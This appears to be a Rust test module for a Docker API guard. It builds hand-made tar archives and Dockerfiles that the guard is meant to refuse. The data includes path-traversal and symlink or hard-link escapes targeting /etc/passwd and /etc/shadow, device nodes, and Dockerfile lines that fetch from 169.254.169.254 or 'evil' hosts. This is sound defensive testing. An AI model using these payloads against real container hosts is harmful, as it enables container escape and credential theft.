//! Archives: what `docker cp` and a build's context could bring along, and Dockerfiles that reach outside.

use super::{Case, Names, Refusal};

/// What follows a head.
#[derive(Clone, Debug)]
pub enum Archive {
    /// Bytes as they are.
    Bytes(&'static [u8]),
    /// A plain tar of these entries: kind, path, and link target or content with placeholders.
    Tar(Vec<(u8, String, String)>),
}

impl Archive {
    /// The bytes, with the names filled in.
    pub fn bytes(&self, names: &Names) -> Vec<u8> {
        match self {
            Archive::Bytes(bytes) => bytes.to_vec(),
            Archive::Tar(entries) => {
                let filled: Vec<_> = entries
                    .iter()
                    .map(|(kind, path, text)| (*kind, path.as_str(), names.fill(text)))
                    .collect();
                tar(&filled)
            }
        }
    }

    fn of(entries: &[Entry]) -> Archive {
        Archive::Tar(
            entries.iter().map(|(k, p, t)| (*k, (*p).to_owned(), (*t).to_owned())).collect(),
        )
    }
}

/// One entry: type flag, path, link target or content.
type Entry<'a> = (u8, &'a str, &'a str);

const FILE: u8 = b'0';
const HARD: u8 = b'1';
const SOFT: u8 = b'2';
const CHAR: u8 = b'3';
const BLOCK: u8 = b'4';
const DIR: u8 = b'5';

/// A plain tar, written by hand: libraries refuse to write what these are about.
fn tar(entries: &[(u8, &str, String)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (kind, path, content) in entries {
        let link = matches!(*kind, HARD | SOFT);
        let size = if link { 0 } else { content.len() };
        let mut head = [0_u8; 512];
        let mut put =
            |at: usize, text: &str| head[at..at + text.len()].copy_from_slice(text.as_bytes());
        put(0, path);
        put(100, "0000644\0");
        put(108, "0000000\0");
        put(116, "0000000\0");
        put(124, &format!("{size:011o}\0"));
        put(136, "00000000000\0");
        put(148, "        ");
        put(257, "ustar\x0000");
        if link {
            put(157, content);
        }
        if matches!(*kind, CHAR | BLOCK) {
            put(329, "0000010\0");
            put(337, "0000000\0");
        }
        head[156] = *kind;
        let sum: u32 = head.iter().map(|b| u32::from(*b)).sum();
        head[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        out.extend_from_slice(&head);
        if !link {
            out.extend_from_slice(content.as_bytes());
            out.resize(out.len().next_multiple_of(512), 0);
        }
    }
    out.resize(out.len() + 1024, 0);
    out
}

/// What must not be unpacked anywhere.
#[rustfmt::skip]
const ENTRIES: &[(&str, &[Entry])] = &[
    ("an absolute path", &[(FILE, "/etc/passwd", "x")]),
    ("a path upwards", &[(FILE, "../x", "x")]),
    ("a path upwards in its middle", &[(FILE, "a/../../x", "x")]),
    ("a character device", &[(CHAR, "null", "")]),
    ("a block device", &[(BLOCK, "sda", "")]),
    ("a link to an absolute path", &[(SOFT, "a", "/etc")]),
    ("a link upwards", &[(SOFT, "a/b", "../../etc")]),
    ("a file through a link", &[(SOFT, "a", "b"), (FILE, "a/x", "x")]),
    ("a file through two links", &[(SOFT, "a", "b"), (SOFT, "b", "c"), (FILE, "a/x/y", "x")]),
    ("a directory through a link", &[(SOFT, "a", "b"), (DIR, "a/x", "")]),
    ("a file in place of a link", &[(SOFT, "a", "b"), (FILE, "a", "x")]),
    ("a hard link through a link", &[(SOFT, "a", "b"), (HARD, "c", "a/x")]),
    ("a hard link to an absolute path", &[(HARD, "a", "/etc/shadow")]),
    ("a hard link upwards", &[(HARD, "a", "../x")]),
    ("an unknown kind", &[(b'Z', "a", "x")]),
    ("a sparse file", &[(b'S', "a", "x")]),
    ("a volume header", &[(b'V', "a", "")]),
];

/// Bytes that are no plain tar: the engine would run a helper to unpack some of them (CVE-2026-41567).
const PACKED: &[(&str, &[u8])] = &[
    ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03"),
    ("bzip2", b"BZh91AY&SY"),
    ("xz", b"\xfd7zXZ\0\0\x04"),
    ("zstd", b"\x28\xb5\x2f\xfd\0\0\0\0"),
    ("rubbish", &[b'x'; 2048]),
];

/// Dockerfiles that must be refused.
#[rustfmt::skip]
const DOCKERFILES: &[&str] = &[
    "FROM foreign-image:1", "FROM FOREIGN_IMAGE_ID", "FROM sha256:FOREIGN_IMAGE_ID", "FROM FOREIGN_IMAGE_SHORT",
    "FROM chitin.invalid/b/x", "FROM CHITIN.INVALID/b/x", "ARG I=foreign-image:1\nFROM $I", "ARG I=foreign\nFROM ${I}-image:1",
    "FROM busybox:test AS b\nFROM foreign-image:1", "FROM foreign-\\\nimage:1", "FROM \"foreign-image:1\"",
    "from foreign-image:1", "FROM --platform=linux/amd64 foreign-image:1", "FROM --foo=1 busybox:test",
    "FROM busybox:test\nCOPY --from=foreign-image:1 / /", "FROM busybox:test\ncopy --from=foreign-image:1 / /",
    "FROM busybox:test\nCOPY --fr\\om=foreign-image:1 / /", "FROM busybox:test\nCOPY --from=\"foreign-image:1\" / /",
    "FROM busybox:test\nCOPY --chown=0:0 --from=foreign-image:1 / /", "FROM busybox:test\nARG I=foreign-image:1\nCOPY --from=$I / /",
    "FROM busybox:test\nCOPY --from=0 / /", "FROM busybox:test\nADD http://169.254.169.254/latest /x",
    "FROM busybox:test\nADD HTTPS://evil/x /x", "FROM busybox:test\nADD [\"http://x\", \"/x\"]",
    "FROM busybox:test\nADD [\"http:\\u002f\\u002fx\", \"/x\"]", "FROM busybox:test\nENV U=http://x\nADD $U /x",
    "FROM busybox:test\nADD git@evil:x.git /x", "FROM busybox:test\nONBUILD ADD http://x /x",
    "FROM busybox:test\nONBUILD COPY --from=foreign-image:1 / /", "FROM busybox:test\nONBUILD FROM foreign-image:1",
    "FROM busybox:test\nRUN --mount=type=cache,target=/x ls", "FROM busybox:test\nRUN --mount=type=bind,from=foreign-image:1,target=/x ls",
    "FROM busybox:test\nRUN --network=host ls", "FROM busybox:test\nRUN --security=insecure ls",
    "FROM busybox:test\nRUN --device=x ls", "# escape=`\nFROM busybox:test", "FROM busybox:test\nRUN x \\",
    "FROM busybox:test\nNOPE x", "RUN x", "", "FROM", "FROM busybox:test AS a b", "FROM busybox:test\nFROM foreign-image:1 AS x",
];

/// A context with a Dockerfile elsewhere, and what is done to it.
#[rustfmt::skip]
const CONTEXTS: &[(&str, &str, &[Entry])] = &[
    ("no Dockerfile", "", &[(FILE, "x", "x")]),
    ("a Dockerfile twice", "", &[(FILE, "Dockerfile", "FROM busybox:test"), (FILE, "Dockerfile", "FROM foreign-image:1")]),
    ("a Dockerfile twice, spelt differently", "", &[(FILE, "Dockerfile", "FROM busybox:test"), (FILE, "./Dockerfile", "FROM foreign-image:1")]),
    ("a Dockerfile that is a link", "", &[(FILE, "other", "FROM foreign-image:1"), (SOFT, "Dockerfile", "other")]),
    ("a Dockerfile that is a hard link", "", &[(FILE, "other", "FROM foreign-image:1"), (HARD, "Dockerfile", "other")]),
    ("a Dockerfile through a link", "a/Dockerfile", &[(SOFT, "a", "b"), (FILE, "b/Dockerfile", "FROM foreign-image:1")]),
    ("a Dockerfile whose directory becomes a link", "a/Dockerfile", &[
        (FILE, "a/Dockerfile", "FROM busybox:test"), (FILE, "b/Dockerfile", "FROM foreign-image:1"), (SOFT, "a", "b"),
    ]),
    ("a Dockerfile in lower case", "", &[(FILE, "dockerfile", "FROM foreign-image:1")]),
    ("an absolute path", "", &[(FILE, "Dockerfile", "FROM busybox:test"), (FILE, "/etc/x", "x")]),
    ("a path upwards", "", &[(FILE, "Dockerfile", "FROM busybox:test"), (FILE, "../x", "x")]),
    ("a device", "", &[(FILE, "Dockerfile", "FROM busybox:test"), (BLOCK, "sda", "")]),
];

/// A request that brings an archive; the engine may see its beginning before the whole is refused.
fn case(what: &str, method: &str, target: &str, archive: Archive) -> Case {
    let mut case = Case::with("archive", what, method, target, "application/x-tar", "");
    case.archive = Some(archive);
    case.refusal = Refusal::Streamed;
    case
}

pub(super) fn cases() -> Vec<Case> {
    let mut out = Vec::new();
    let put = "/v1.41/containers/mine/archive?path=/tmp";
    for (what, entries) in ENTRIES {
        out.push(case(&format!("cp: {what}"), "PUT", put, Archive::of(entries)));
    }
    for (what, bytes) in PACKED {
        out.push(case(&format!("cp: {what}"), "PUT", put, Archive::Bytes(bytes)));
        out.push(case(
            &format!("build: {what}"),
            "POST",
            "/v1.41/build?t=x",
            Archive::Bytes(bytes),
        ));
    }
    for text in DOCKERFILES {
        let what = format!("build: {text:?}");
        out.push(case(
            &what,
            "POST",
            "/v1.41/build?t=x",
            Archive::of(&[(FILE, "Dockerfile", text)]),
        ));
    }
    for (what, dockerfile, entries) in CONTEXTS {
        let target = format!("/v1.41/build?t=x&dockerfile={dockerfile}");
        out.push(case(&format!("build: {what}"), "POST", &target, Archive::of(entries)));
    }
    out
}
